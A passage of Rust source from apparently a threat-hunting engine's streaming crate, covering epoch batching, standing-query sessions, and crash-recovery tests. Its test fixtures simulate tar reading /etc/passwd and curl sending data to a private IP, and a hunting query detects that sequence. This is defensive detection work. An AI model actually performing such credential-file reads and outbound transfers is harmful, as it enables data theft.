        let want_rows = live.query(qid).cumulative_batch().n_rows();
        let want_epochs = live.epochs();

        let recovered = DurableSession::open(fs, manual()).unwrap();
        let r = recovered.recovery_report();
        assert!(!r.checkpoint_found);
        assert_eq!(r.wal_epochs_replayed, want_epochs);
        assert_eq!(r.resumed_epoch, want_epochs);
        assert_eq!(r.registrations_recovered, 1);
        assert_eq!(r.wal_bytes_discarded, 0);
        assert_eq!(recovered.query(QueryId(0)).cumulative_batch().n_rows(), want_rows);
        assert_eq!(recovered.engine().stores.now_ns, live.engine().stores.now_ns);
        assert_eq!(recovered.session().total_ingest_stats(), live.session().total_ingest_stats());
        assert_eq!(
            recovered.engine().stores.rel.store_stats(),
            live.engine().stores.rel.store_stats()
        );
    }

    /// Same, but through a mid-stream checkpoint: recovery = checkpoint +
    /// WAL tail.
    #[test]
    fn recover_from_checkpoint_plus_tail() {
        let log = sample_log();
        let fs = Arc::new(MemFs::new());
        let mut live = DurableSession::open(fs.clone(), manual()).unwrap();
        live.register("hunt", Q).unwrap();
        let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByCount(3)).collect();
        let half = batches.len() / 2;
        for b in &batches[..half] {
            live.ingest_batch(b).unwrap();
        }
        live.checkpoint().unwrap();
        for b in &batches[half..] {
            live.ingest_batch(b).unwrap();
        }
        let want_rows = live.query(QueryId(0)).cumulative_batch().n_rows();

        let recovered = DurableSession::open(fs, manual()).unwrap();
        let r = recovered.recovery_report();
        assert!(r.checkpoint_found);
        assert_eq!(r.checkpoint_epochs, half as u64);
        assert_eq!(r.wal_epochs_replayed, (batches.len() - half) as u64);
        assert_eq!(recovered.epochs(), batches.len() as u64);
        assert_eq!(recovered.query(QueryId(0)).cumulative_batch().n_rows(), want_rows);
        assert_eq!(
            recovered.engine().stores.rel.store_stats(),
            live.engine().stores.rel.store_stats()
        );
    }

    /// The dedupe satellite: re-delivering the whole stream after recovery
    /// must be a no-op for already-committed epochs — same store, same
    /// standing output, same watermark arithmetic (no double-append).
    #[test]
    fn redelivery_after_recovery_is_idempotent() {
        let log = sample_log();
        let fs = Arc::new(MemFs::new());
        let mut live = DurableSession::open(fs.clone(), manual()).unwrap();
        live.register("hunt", Q).unwrap();
        for batch in EpochStream::new(&log, EpochPolicy::ByCount(2)) {
            live.ingest_batch(&batch).unwrap();
        }
        let want_rows = live.query(QueryId(0)).cumulative_batch().n_rows();
        let want_nodes = live.engine().stores.graph.node_count();
        let want_watermark = live.engine().stores.now_ns;
        drop(live);

        let mut recovered = DurableSession::open(fs, manual()).unwrap();
        // The source restarts from scratch: every batch is re-delivered.
        // EpochStream is deterministic, so (epoch, watermark) pairs repeat
        // exactly — and every one must dedupe.
        for batch in EpochStream::new(&log, EpochPolicy::ByCount(2)) {
            assert!(batch.epoch < recovered.epochs());
            assert!(recovered.ingest_batch(&batch).unwrap().is_none(), "must dedupe");
        }
        assert_eq!(recovered.engine().stores.graph.node_count(), want_nodes);
        assert_eq!(recovered.engine().stores.now_ns, want_watermark);
        assert_eq!(recovered.query(QueryId(0)).cumulative_batch().n_rows(), want_rows);
        // A batch from the future (gap) is rejected, not silently applied.
        let far = EpochBatch {
            epoch: recovered.epochs() + 1,
            entities: &[],
            events: &[],
            watermark: want_watermark,
        };
        assert!(recovered.ingest_batch(&far).is_err());
    }

    /// EpochStream watermark arithmetic is deterministic across
    /// re-creation: the same log yields the same (epoch, watermark)
    /// sequence, and a recovered session's watermark equals the stream's
    /// at the resume point (the pin for idempotent re-delivery).
    #[test]
    fn watermark_arithmetic_pinned() {
        let log = sample_log();
        let a: Vec<(u64, i64)> = EpochStream::new(&log, EpochPolicy::ByCount(3))
            .map(|b| (b.epoch, b.watermark))
            .collect();
        let b: Vec<(u64, i64)> = EpochStream::new(&log, EpochPolicy::ByCount(3))
            .map(|b| (b.epoch, b.watermark))
            .collect();
        assert_eq!(a, b);
        // Watermarks are the running max of event end times: monotone.
        assert!(a.windows(2).all(|w| w[0].1 <= w[1].1));

        // Ingest a prefix durably; the recovered watermark equals the last
        // committed batch's watermark.
        let fs = Arc::new(MemFs::new());
        let mut live = DurableSession::open(fs.clone(), manual()).unwrap();
        let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByCount(3)).collect();
        let take = batches.len() / 2;
        for bt in &batches[..take] {
            live.ingest_batch(bt).unwrap();
        }
        drop(live);
        let recovered = DurableSession::open(fs, manual()).unwrap();
        assert_eq!(recovered.recovery_report().watermark, a[take - 1].1);
        assert_eq!(recovered.epochs(), take as u64);
    }

    /// A crash torn mid-WAL-write: recovery discards the tail and the
    /// re-delivered epochs land exactly once.
    #[test]
    fn torn_tail_recovers_and_redelivers() {
        let log = sample_log();
        let mem = Arc::new(MemFs::new());
        let fp = Arc::new(FailpointFs::new(mem.clone()));
        let mut live = DurableSession::open(fp.clone(), manual()).unwrap();
        live.register("hunt", Q).unwrap();
        // Let two epochs commit, then tear the third mid-record.
        let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByCount(2)).collect();
        live.ingest_batch(&batches[0]).unwrap();
        live.ingest_batch(&batches[1]).unwrap();
        fp.crash_after_bytes(10);
        let err = live.ingest_batch(&batches[2]).unwrap_err();
        assert!(err.to_string().contains("failpoint"), "{err}");
        drop(live);

        let mut recovered = DurableSession::open(mem, manual()).unwrap();
        let r = recovered.recovery_report().clone();
        assert_eq!(r.wal_epochs_replayed, 2);
        assert!(r.wal_bytes_discarded > 0, "{r:?}");
        assert_eq!(r.resumed_epoch, 2);
        // Re-deliver everything; first two dedupe, the rest apply.
        for b in &batches {
            recovered.ingest_batch(b).unwrap();
        }
        assert_eq!(recovered.epochs(), batches.len() as u64);
        assert_eq!(
            recovered.engine().stores.graph.node_count() + {
                let e = recovered.engine();
                e.stores.graph.edge_count()
            },
            log.entities.len() + log.events.len()
        );
    }

    /// Transient WAL errors surface as typed errors without corrupting the
    /// session's prior durable state.
    #[test]
    fn injected_error_surfaces_cleanly() {
        let log = sample_log();
        let mem = Arc::new(MemFs::new());
        let fp = Arc::new(FailpointFs::new(mem.clone()));
        let mut live = DurableSession::open(fp.clone(), manual()).unwrap();
        let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByCount(4)).collect();
        live.ingest_batch(&batches[0]).unwrap();
        fp.error_on_op(0);
        assert!(live.ingest_batch(&batches[1]).is_err());
        drop(live);
        // Epoch 0 survived; the failed epoch never committed.
        let recovered = DurableSession::open(mem, manual()).unwrap();
        assert_eq!(recovered.epochs(), 1);
    }
}
