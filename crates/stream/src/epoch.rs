//! The epoch-based event stream source.
//!
//! Chunks a parsed audit log into watermarked batches, standing in for a
//! live collection pipeline (kafka topic, sysdig socket, ...) the same way
//! `raptor-audit`'s simulator stands in for a live testbed. Two policies:
//!
//! * [`EpochPolicy::ByCount`] — fixed number of events per epoch,
//! * [`EpochPolicy::ByTime`] — all events whose start time falls in the
//!   next fixed-width time window (windows with no events are skipped, not
//!   emitted empty).
//!
//! Each batch carries the **entities** that must be ingested before its
//! events: every not-yet-emitted entity up to the highest id its events
//! reference. Entity ids are assigned by the parser in first-appearance
//! order, so this keeps the id space dense — the contract the stores'
//! `MutableBackend` append path relies on. Entities never referenced by
//! any event ride along with the final batch.

use raptor_audit::{Entity, ParsedLog, SystemEvent};

/// How events are grouped into epochs.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum EpochPolicy {
    /// At most this many events per epoch.
    ByCount(usize),
    /// One epoch per time window of this many nanoseconds (event start
    /// times; the log is start-time ordered).
    ByTime(i64),
}

/// One watermarked batch of the stream.
#[derive(Clone, Copy, Debug)]
pub struct EpochBatch<'a> {
    /// Epoch sequence number, starting at 0.
    pub epoch: u64,
    /// Entities that must be ingested before `events` (dense id order).
    pub entities: &'a [Entity],
    /// The epoch's events, in log order.
    pub events: &'a [SystemEvent],
    /// Low watermark after this epoch: the maximum event end time emitted
    /// so far. Everything at or before this instant has been delivered.
    pub watermark: i64,
}

/// Iterator of [`EpochBatch`]es over a parsed log.
pub struct EpochStream<'a> {
    log: &'a ParsedLog,
    policy: EpochPolicy,
    next_event: usize,
    next_entity: usize,
    epoch: u64,
    watermark: i64,
}

impl<'a> EpochStream<'a> {
    pub fn new(log: &'a ParsedLog, policy: EpochPolicy) -> Self {
        EpochStream { log, policy, next_event: 0, next_entity: 0, epoch: 0, watermark: 0 }
    }
}

/// Highest entity id referenced by `events`, plus one (0 when empty).
pub fn max_referenced_entity(events: &[SystemEvent]) -> usize {
    events.iter().map(|e| e.subject.index().max(e.object.index()) + 1).max().unwrap_or(0)
}

impl<'a> Iterator for EpochStream<'a> {
    type Item = EpochBatch<'a>;

    fn next(&mut self) -> Option<EpochBatch<'a>> {
        let events = &self.log.events;
        let entities = &self.log.entities;
        if self.next_event >= events.len() && self.next_entity >= entities.len() {
            return None;
        }
        let end = if self.next_event >= events.len() {
            self.next_event // entity-only flush batch
        } else {
            match self.policy {
                EpochPolicy::ByCount(n) => (self.next_event + n.max(1)).min(events.len()),
                EpochPolicy::ByTime(w) => {
                    let w = w.max(1);
                    let window_start = events[self.next_event].start.0;
                    let mut i = self.next_event;
                    while i < events.len() && events[i].start.0 < window_start.saturating_add(w) {
                        i += 1;
                    }
                    i
                }
            }
        };
        let chunk = &events[self.next_event..end];
        // Entities this chunk needs; the final batch flushes the rest.
        let mut bound = max_referenced_entity(chunk).max(self.next_entity);
        if end >= events.len() {
            bound = entities.len();
        }
        let batch_entities = &entities[self.next_entity..bound];
        self.watermark = chunk.iter().map(|e| e.end.0).max().unwrap_or(0).max(self.watermark);
        let batch = EpochBatch {
            epoch: self.epoch,
            entities: batch_entities,
            events: chunk,
            watermark: self.watermark,
        };
        self.next_event = end;
        self.next_entity = bound;
        self.epoch += 1;
        Some(batch)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use raptor_audit::sim::Simulator;
    use raptor_audit::LogParser;
    use raptor_common::time::Timestamp;

    fn sample_log() -> ParsedLog {
        let mut sim = Simulator::new(7, Timestamp::from_secs(100));
        let shell = sim.boot_process("/bin/bash", "root");
        let tar = sim.spawn(shell, "/bin/tar", "tar");
        sim.read_file(tar, "/etc/passwd", 4096, 4);
        sim.write_file(tar, "/tmp/out.tar", 4096, 4);
        let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
        let fd = sim.connect(curl, "10.0.0.1", 443);
        sim.send(curl, fd, 512, 2);
        sim.exit(curl);
        sim.exit(tar);
        LogParser::parse(&sim.finish())
    }

    #[test]
    fn by_count_covers_everything_once() {
        let log = sample_log();
        for n in [1, 2, 3, 100] {
            let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByCount(n)).collect();
            let total_events: usize = batches.iter().map(|b| b.events.len()).sum();
            let total_entities: usize = batches.iter().map(|b| b.entities.len()).sum();
            assert_eq!(total_events, log.events.len(), "n={n}");
            assert_eq!(total_entities, log.entities.len(), "n={n}");
            // Entities arrive in dense id order.
            let ids: Vec<usize> =
                batches.iter().flat_map(|b| b.entities.iter().map(|e| e.id.index())).collect();
            assert_eq!(ids, (0..log.entities.len()).collect::<Vec<_>>());
            // Every event's endpoints are already emitted when it arrives.
            let mut seen = 0usize;
            for b in &batches {
                seen += b.entities.len();
                for e in b.events {
                    assert!(e.subject.index() < seen && e.object.index() < seen);
                }
            }
        }
    }

    #[test]
    fn watermarks_are_monotone() {
        let log = sample_log();
        let mut last = i64::MIN;
        for b in EpochStream::new(&log, EpochPolicy::ByCount(2)) {
            assert!(b.watermark >= last);
            last = b.watermark;
        }
        let max_end = log.events.iter().map(|e| e.end.0).max().unwrap();
        assert_eq!(last, max_end);
    }

    #[test]
    fn by_time_windows_partition_events() {
        let log = sample_log();
        let span = log.events.last().unwrap().start.0 - log.events[0].start.0;
        let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByTime(span / 4 + 1)).collect();
        assert!(batches.len() >= 2, "expected several windows, got {}", batches.len());
        let total: usize = batches.iter().map(|b| b.events.len()).sum();
        assert_eq!(total, log.events.len());
        for b in &batches {
            assert!(!b.events.is_empty() || !b.entities.is_empty());
        }
    }

    #[test]
    fn empty_log_yields_nothing() {
        let log = ParsedLog::default();
        assert_eq!(EpochStream::new(&log, EpochPolicy::ByCount(8)).count(), 0);
    }
}
