//! Streaming threat hunting: incremental ingestion + continuous
//! standing-query evaluation.
//!
//! ThreatRaptor (ICDE'21) hunts over a static snapshot; its extended
//! version (arXiv:2101.06761) and ATHAFI (arXiv:2003.03663) frame hunting
//! as an *ongoing* activity over continuously arriving audit events. This
//! crate is that execution mode:
//!
//! * [`epoch`] — the stream source: chunks a parsed audit log into
//!   **watermarked epochs** (by event count or by time window), emitting
//!   each entity with the first epoch that needs it so entity ids stay
//!   dense across both stores,
//! * [`session`] — a [`StreamSession`]: empty stores grown epoch-by-epoch
//!   through `raptor-engine`'s append path (one write path shared with
//!   bulk load, every index maintained per insert), plus a registry of
//!   [`StandingQuery`](raptor_engine::StandingQuery)s re-evaluated per
//!   epoch with delta evaluation. Each ingested epoch yields an
//!   [`EpochReport`]: insert counters (per-epoch reset semantics) and one
//!   typed [`ResultBatch`](raptor_storage::ResultBatch) *delta* per
//!   registered query,
//! * [`durable`] — a [`DurableSession`]: the same session backed by the
//!   durability plane (WAL below the load seam, periodic checkpoints,
//!   crash recovery with idempotent re-delivery), producing a
//!   [`RecoveryReport`] on open.
//!
//! The invariant tying it to batch mode: after the final epoch, every
//! standing query's concatenated deltas equal — as a row multiset — the
//! `ExecMode::Scheduled` result over the same data bulk-loaded, and zero
//! SQL/Cypher text is parsed anywhere on the path.

pub mod durable;
pub mod epoch;
pub mod session;

pub use durable::{DurablePolicy, DurableSession, RecoveryReport};
pub use epoch::{EpochBatch, EpochPolicy, EpochStream};
pub use session::{EpochReport, QueryDelta, QueryId, StreamSession};
