//! The streaming session: stores grown epoch-by-epoch plus the
//! standing-query registry.

use raptor_audit::{Entity, ParsedLog, SystemEvent};
use raptor_common::error::Result;
use raptor_common::obs;
use raptor_engine::exec::{Engine, EngineStats};
use raptor_engine::load::{self};
use raptor_engine::standing::{EpochInput, StandingQuery};
use raptor_storage::{BackendStats, ResultBatch};
use raptor_tbql::{analyze, parse_tbql};

use crate::epoch::{max_referenced_entity, EpochBatch};

/// Handle to a registered standing query.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct QueryId(pub usize);

/// One standing query's output for one epoch.
#[derive(Debug)]
pub struct QueryDelta {
    pub id: QueryId,
    pub name: String,
    /// Result rows this epoch *added* (typed; render at the edge).
    pub delta: ResultBatch,
    /// Re-evaluation stats (delta data queries + join).
    pub stats: EngineStats,
}

/// What one ingested epoch produced.
#[derive(Debug)]
pub struct EpochReport {
    pub epoch: u64,
    /// Max event end time ingested so far.
    pub watermark: i64,
    pub entities_ingested: usize,
    pub events_ingested: usize,
    /// Backend insert counters for *this epoch only* (a fresh
    /// [`BackendStats`] per epoch is the per-epoch reset semantics; the
    /// session also keeps a running total).
    pub ingest_stats: BackendStats,
    /// One delta per registered standing query, in registration order.
    pub deltas: Vec<QueryDelta>,
}

/// A live hunting session: both storage backends grown incrementally from
/// empty, and TBQL standing queries re-evaluated on every ingested epoch.
///
/// ```
/// use raptor_audit::sim::Simulator;
/// use raptor_audit::LogParser;
/// use raptor_common::time::Timestamp;
/// use raptor_stream::{EpochPolicy, EpochStream, StreamSession};
///
/// let mut sim = Simulator::new(1, Timestamp::from_secs(0));
/// let shell = sim.boot_process("/bin/bash", "root");
/// let tar = sim.spawn(shell, "/bin/tar", "tar");
/// sim.read_file(tar, "/etc/passwd", 4096, 4);
/// let log = LogParser::parse(&sim.finish());
///
/// let mut session = StreamSession::new().unwrap();
/// session.register("leak", r#"proc p["%tar%"] read file f return distinct p, f"#).unwrap();
/// for batch in EpochStream::new(&log, EpochPolicy::ByCount(2)) {
///     let report = session.ingest_batch(&batch).unwrap();
///     for d in &report.deltas {
///         for row in d.delta.rendered_rows() {
///             println!("epoch {}: {} -> {:?}", report.epoch, d.name, row);
///         }
///     }
/// }
/// assert_eq!(session.query(raptor_stream::QueryId(0)).cumulative_batch().n_rows(), 1);
/// ```
pub struct StreamSession {
    engine: Engine,
    queries: Vec<StandingQuery>,
    epoch: u64,
    total_ingest: BackendStats,
}

impl StreamSession {
    /// Creates a session over empty stores (schemas + indexes ready).
    pub fn new() -> Result<Self> {
        Ok(StreamSession {
            engine: Engine::new(load::empty()?),
            queries: Vec::new(),
            epoch: 0,
            total_ingest: BackendStats::default(),
        })
    }

    /// Rebuilds a session at a given stream position — the durability
    /// plane's recovery constructor. `engine` must hold stores grown to the
    /// end of `epoch` committed epochs, and `queries` the standing queries
    /// with their accumulated state, in registration order. Normal sessions
    /// start from [`StreamSession::new`].
    pub fn resume(
        engine: Engine,
        queries: Vec<StandingQuery>,
        epoch: u64,
        total_ingest: BackendStats,
    ) -> Self {
        StreamSession { engine, queries, epoch, total_ingest }
    }

    /// Mutable engine access for the durability plane (attaching the WAL
    /// sink, physical re-partitioning). Mutating the stores around the
    /// session's ingest path breaks the epoch bookkeeping — use
    /// [`StreamSession::ingest`] for data.
    #[doc(hidden)]
    pub fn engine_mut(&mut self) -> &mut Engine {
        &mut self.engine
    }

    /// Registers a TBQL text as a standing query. Registration is valid at
    /// any point of the stream; the query only ever sees epochs ingested
    /// after it (plus whatever full re-evaluation of variable-length paths
    /// reaches — see `raptor_engine::standing`).
    pub fn register(&mut self, name: &str, tbql: &str) -> Result<QueryId> {
        let aq = analyze(&parse_tbql(tbql)?)?;
        self.register_analyzed(name, aq)
    }

    /// Registers an already-analyzed query. Fails for queries a stream
    /// cannot evaluate soundly (relative `last N unit` windows).
    pub fn register_analyzed(
        &mut self,
        name: &str,
        aq: raptor_tbql::analyze::AnalyzedQuery,
    ) -> Result<QueryId> {
        self.queries.push(StandingQuery::new(name, aq, self.engine.stores.dict.clone())?);
        Ok(QueryId(self.queries.len() - 1))
    }

    /// The engine over the session's stores (ad-hoc queries still work at
    /// any point — streaming and one-shot execution share the stores).
    pub fn engine(&self) -> &Engine {
        &self.engine
    }

    pub fn query(&self, id: QueryId) -> &StandingQuery {
        &self.queries[id.0]
    }

    pub fn queries(&self) -> &[StandingQuery] {
        &self.queries
    }

    /// Epochs ingested so far.
    pub fn epochs(&self) -> u64 {
        self.epoch
    }

    /// Pins the worker count across the session's whole execution plane
    /// (standing-query evaluation, store scans/joins/traversals). `1` takes
    /// the strictly sequential code paths everywhere.
    pub fn set_threads(&mut self, threads: usize) {
        self.engine.set_threads(threads);
    }

    /// Re-partitions the relational store's columnar segments to `rows`
    /// rows per segment (zone maps rebuilt in one pass). Purely physical:
    /// no query result may change.
    pub fn set_segment_rows(&mut self, rows: usize) {
        self.engine.set_segment_rows(rows);
    }

    /// Running total of the per-epoch ingest counters.
    pub fn total_ingest_stats(&self) -> BackendStats {
        self.total_ingest
    }

    /// Ingests one epoch: `entities` (dense ascending ids continuing the
    /// session's id space) then `events` (endpoints must be ingested),
    /// then advances every standing query.
    ///
    /// Error semantics: every standing query is advanced (their
    /// accumulated state moves to this epoch) before the first error — in
    /// registration order — is surfaced; the failing epoch's deltas are
    /// then discarded. Standing advancement cannot fail on well-formed
    /// registered queries, so an `Err` here means the session is broken,
    /// not one delta.
    pub fn ingest(&mut self, entities: &[Entity], events: &[SystemEvent]) -> Result<EpochReport> {
        let mut sp_epoch = obs::span("stream.epoch");
        sp_epoch.attr("epoch", self.epoch);
        sp_epoch.attr("entities", entities.len() as u64);
        sp_epoch.attr("events", events.len() as u64);
        let mut ingest_stats = BackendStats::default();
        let entity_lo = self.engine.stores.graph.node_count() as i64;
        let (entity_hi, event_ids) = {
            let mut sp = obs::span("stream.ingest");
            for e in entities {
                load::append_entity(&mut self.engine.stores, e, &mut ingest_stats)?;
            }
            let entity_hi = self.engine.stores.graph.node_count() as i64;

            let mut event_ids: Vec<i64> = Vec::with_capacity(events.len());
            for ev in events {
                load::append_event(&mut self.engine.stores, ev, &mut ingest_stats)?;
                event_ids.push(ev.id.index() as i64);
            }
            event_ids.sort_unstable();
            event_ids.dedup();
            sp.attr("inserted", ingest_stats.items_inserted as u64);
            (entity_hi, event_ids)
        };
        self.total_ingest.absorb(&ingest_stats);

        let epoch = self.epoch;
        self.epoch += 1;
        let input =
            EpochInput { epoch, entity_range: (entity_lo, entity_hi), event_ids: &event_ids };
        // Standing queries are independent state machines over the shared
        // (read-only during evaluation) stores: advance them concurrently
        // on the engine's pool. Outputs come back in registration order —
        // per-epoch reports are identical at every thread count.
        let engine = &self.engine;
        let t_detect = std::time::Instant::now();
        let outcomes = engine
            .pool()
            .run(self.queries.iter_mut().map(|sq| move || sq.advance(engine, &input)).collect());
        let mut deltas = Vec::with_capacity(outcomes.len());
        let mut delta_rows = 0usize;
        for (i, outcome) in outcomes.into_iter().enumerate() {
            let (delta, stats) = outcome?;
            delta_rows += delta.n_rows();
            deltas.push(QueryDelta {
                id: QueryId(i),
                name: self.queries[i].name().to_string(),
                delta,
                stats,
            });
        }
        // Epoch detection latency: ingest-to-delta wall time for this
        // epoch's standing-query advancement.
        let m = obs::metrics();
        m.counter_add("raptor_epochs_total", 1);
        m.counter_add("raptor_entities_ingested_total", entities.len() as u64);
        m.counter_add("raptor_events_ingested_total", events.len() as u64);
        m.counter_add("raptor_delta_rows_total", delta_rows as u64);
        m.gauge_set(
            "raptor_path_frontier_entries",
            raptor_engine::standing::frontier_entries_total(),
        );
        if !self.queries.is_empty() {
            m.observe_ns("raptor_epoch_detect_latency_ns", t_detect.elapsed().as_nanos() as u64);
        }
        sp_epoch.attr("delta_rows", delta_rows as u64);
        Ok(EpochReport {
            epoch,
            watermark: self.engine.stores.now_ns,
            entities_ingested: entities.len(),
            events_ingested: events.len(),
            ingest_stats,
            deltas,
        })
    }

    /// Ingests one batch from an [`EpochStream`](crate::EpochStream).
    pub fn ingest_batch(&mut self, batch: &EpochBatch<'_>) -> Result<EpochReport> {
        self.ingest(batch.entities, batch.events)
    }

    /// Ingests an arbitrary chunk of a log's events (any order across
    /// chunks), automatically pulling in the entities the chunk needs.
    /// Entities are always appended in dense id order regardless of the
    /// event order, so shuffled re-deliveries still build identical stores.
    pub fn ingest_chunk(&mut self, log: &ParsedLog, events: &[SystemEvent]) -> Result<EpochReport> {
        let have = self.engine.stores.graph.node_count();
        let bound = max_referenced_entity(events).max(have);
        let entities = &log.entities[have..bound];
        self.ingest(entities, events)
    }

    /// Appends any entities the event chunks never referenced (call after
    /// the last chunk to make the stores equal to a bulk load).
    pub fn flush_entities(&mut self, log: &ParsedLog) -> Result<EpochReport> {
        let have = self.engine.stores.graph.node_count();
        let entities = &log.entities[have..];
        self.ingest(entities, &[])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::epoch::{EpochPolicy, EpochStream};
    use raptor_audit::sim::Simulator;
    use raptor_audit::LogParser;
    use raptor_common::time::Timestamp;
    use raptor_engine::exec::ExecMode;
    use raptor_engine::load::load;
    use raptor_engine::ResultTable;
    use raptor_tbql::{analyze, parse_tbql};

    fn sample_log() -> ParsedLog {
        let mut sim = Simulator::new(11, Timestamp::from_secs(5000));
        let shell = sim.boot_process("/bin/bash", "root");
        let tar = sim.spawn(shell, "/bin/tar", "tar");
        sim.read_file(tar, "/etc/passwd", 4096, 4);
        sim.write_file(tar, "/tmp/out.tar", 4096, 4);
        sim.exit(tar);
        let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
        sim.read_file(curl, "/tmp/out.tar", 4096, 2);
        let fd = sim.connect(curl, "192.168.29.128", 443);
        sim.send(curl, fd, 4096, 2);
        sim.exit(curl);
        LogParser::parse(&sim.finish())
    }

    const Q: &str = r#"proc p["%tar%"] read file f["%passwd%"] as e1
                       proc p2["%curl%"] connect ip i as e2
                       with e1 before e2 return p, p2, i"#;

    #[test]
    fn streamed_session_matches_batch_execution() {
        let log = sample_log();
        let mut session = StreamSession::new().unwrap();
        let qid = session.register("hunt", Q).unwrap();
        let mut delta_rows = 0usize;
        for batch in EpochStream::new(&log, EpochPolicy::ByCount(3)) {
            let report = session.ingest_batch(&batch).unwrap();
            // Per-epoch reset semantics: this epoch's inserts only.
            assert_eq!(
                report.ingest_stats.items_inserted,
                2 * (report.entities_ingested + report.events_ingested)
            );
            delta_rows += report.deltas[0].delta.n_rows();
        }
        // Totals aggregate across epochs; both stores ingested everything.
        assert_eq!(
            session.total_ingest_stats().items_inserted,
            2 * (log.entities.len() + log.events.len())
        );
        let batch_engine = Engine::new(load(&log).unwrap());
        let aq = analyze(&parse_tbql(Q).unwrap()).unwrap();
        let (expect, _) = batch_engine.execute(&aq, ExecMode::Scheduled).unwrap();
        let got = ResultTable::from_batch(&session.query(qid).cumulative_batch());
        assert_eq!(got.sorted_rows(), expect.sorted_rows());
        assert_eq!(delta_rows, expect.rows.len());
    }

    #[test]
    fn streaming_is_parse_free() {
        let log = sample_log();
        let mut session = StreamSession::new().unwrap();
        session.register("hunt", Q).unwrap();
        for batch in EpochStream::new(&log, EpochPolicy::ByCount(4)) {
            let report = session.ingest_batch(&batch).unwrap();
            for d in &report.deltas {
                assert_eq!(d.stats.text_parses, 0);
                assert_eq!(d.stats.backend.text_parses, 0);
            }
        }
        assert_eq!(session.engine().stores.rel.text_parse_count(), 0);
    }

    #[test]
    fn shuffled_chunks_build_identical_stores() {
        let log = sample_log();
        // Deliver events out of order in 2 swapped halves.
        let mid = log.events.len() / 2;
        let mut session = StreamSession::new().unwrap();
        session.ingest_chunk(&log, &log.events[mid..]).unwrap();
        session.ingest_chunk(&log, &log.events[..mid]).unwrap();
        session.flush_entities(&log).unwrap();
        let streamed = session.engine();
        let bulk = Engine::new(load(&log).unwrap());
        assert_eq!(streamed.stores.graph.node_count(), bulk.stores.graph.node_count());
        assert_eq!(streamed.stores.graph.edge_count(), bulk.stores.graph.edge_count());
        assert_eq!(streamed.stores.rel.total_rows(), bulk.stores.rel.total_rows());
        let aq = analyze(&parse_tbql(Q).unwrap()).unwrap();
        let (a, _) = streamed.execute(&aq, ExecMode::Scheduled).unwrap();
        let (b, _) = bulk.execute(&aq, ExecMode::Scheduled).unwrap();
        assert_eq!(a.sorted_rows(), b.sorted_rows());
    }

    #[test]
    fn late_registration_sees_later_epochs_only() {
        let log = sample_log();
        let mut session = StreamSession::new().unwrap();
        let batches: Vec<_> = EpochStream::new(&log, EpochPolicy::ByCount(2)).collect();
        let half = batches.len() / 2;
        for b in &batches[..half] {
            session.ingest_batch(b).unwrap();
        }
        let qid = session
            .register("late", r#"proc p["%bash%"] start proc q return distinct p, q"#)
            .unwrap();
        for b in &batches[half..] {
            session.ingest_batch(b).unwrap();
        }
        // bash's process starts happen early in the log; a late registration
        // misses those epochs (matches only what arrived after it).
        let late = session.query(qid).cumulative_batch().n_rows();
        let batch_engine = Engine::new(load(&log).unwrap());
        let (full, _) = batch_engine
            .execute_text(
                r#"proc p["%bash%"] start proc q return distinct p, q"#,
                ExecMode::Scheduled,
            )
            .unwrap();
        assert!(late <= full.rows.len());
    }
}
