//! Live hunting over a stream of audit events.
//!
//! [`HuntStream`] is the streaming counterpart of [`ThreatRaptor`]: instead
//! of loading a snapshot and executing queries once, it starts from empty
//! stores, ingests watermarked epochs, and re-evaluates registered standing
//! queries per epoch with delta evaluation — surfacing typed
//! [`ResultBatch`](raptor_storage::ResultBatch) deltas as they appear.
//! Queries can come from hand-written TBQL (proactive hunting) or straight
//! from an OSCTI report via the extraction + synthesis pipeline.

use raptor_common::error::Result;
use raptor_extract::extract;
use raptor_tbql::print::print_query;
use raptor_tbql::{analyze, Query};

pub use raptor_stream::{
    DurablePolicy, DurableSession, EpochBatch, EpochPolicy, EpochReport, EpochStream, QueryDelta,
    QueryId, RecoveryReport, StreamSession,
};

use crate::synthesis::{synthesize, SynthesisPlan};
use crate::ThreatRaptor;

/// A continuous hunt: incremental stores + standing queries.
pub struct HuntStream {
    session: StreamSession,
}

impl HuntStream {
    /// Starts a live hunt over empty stores.
    pub fn new() -> Result<Self> {
        Ok(HuntStream { session: StreamSession::new()? })
    }

    /// Registers a hand-written TBQL standing query.
    pub fn register_tbql(&mut self, name: &str, tbql: &str) -> Result<QueryId> {
        self.session.register(name, tbql)
    }

    /// Registers a standing query synthesized from an OSCTI report:
    /// text → threat behavior graph → TBQL → registry. Returns the handle
    /// plus the synthesized query (AST and rendered text).
    pub fn register_report(
        &mut self,
        name: &str,
        report: &str,
        plan: &SynthesisPlan,
    ) -> Result<(QueryId, Query, String)> {
        let extraction = extract(report);
        let query = synthesize(&extraction.graph, plan)?;
        let text = print_query(&query);
        let id = self.session.register_analyzed(name, analyze(&query)?)?;
        Ok((id, query, text))
    }

    /// Ingests one epoch batch; see [`StreamSession::ingest_batch`].
    pub fn ingest_batch(&mut self, batch: &EpochBatch<'_>) -> Result<EpochReport> {
        self.session.ingest_batch(batch)
    }

    /// The underlying session (standing-query state, engine, totals).
    pub fn session(&self) -> &StreamSession {
        &self.session
    }

    pub fn session_mut(&mut self) -> &mut StreamSession {
        &mut self.session
    }
}

impl ThreatRaptor {
    /// Starts a *streaming* hunt (no snapshot required — the returned
    /// [`HuntStream`] owns its own incrementally-grown stores).
    pub fn stream() -> Result<HuntStream> {
        HuntStream::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use raptor_audit::sim::Simulator;
    use raptor_audit::LogParser;
    use raptor_common::time::Timestamp;

    #[test]
    fn report_driven_standing_query_fires() {
        let mut sim = Simulator::new(3, Timestamp::from_secs(9000));
        let shell = sim.boot_process("/bin/bash", "root");
        let tar = sim.spawn(shell, "/bin/tar", "tar");
        sim.read_file(tar, "/etc/passwd", 4096, 2);
        sim.exit(tar);
        let log = LogParser::parse(&sim.finish());

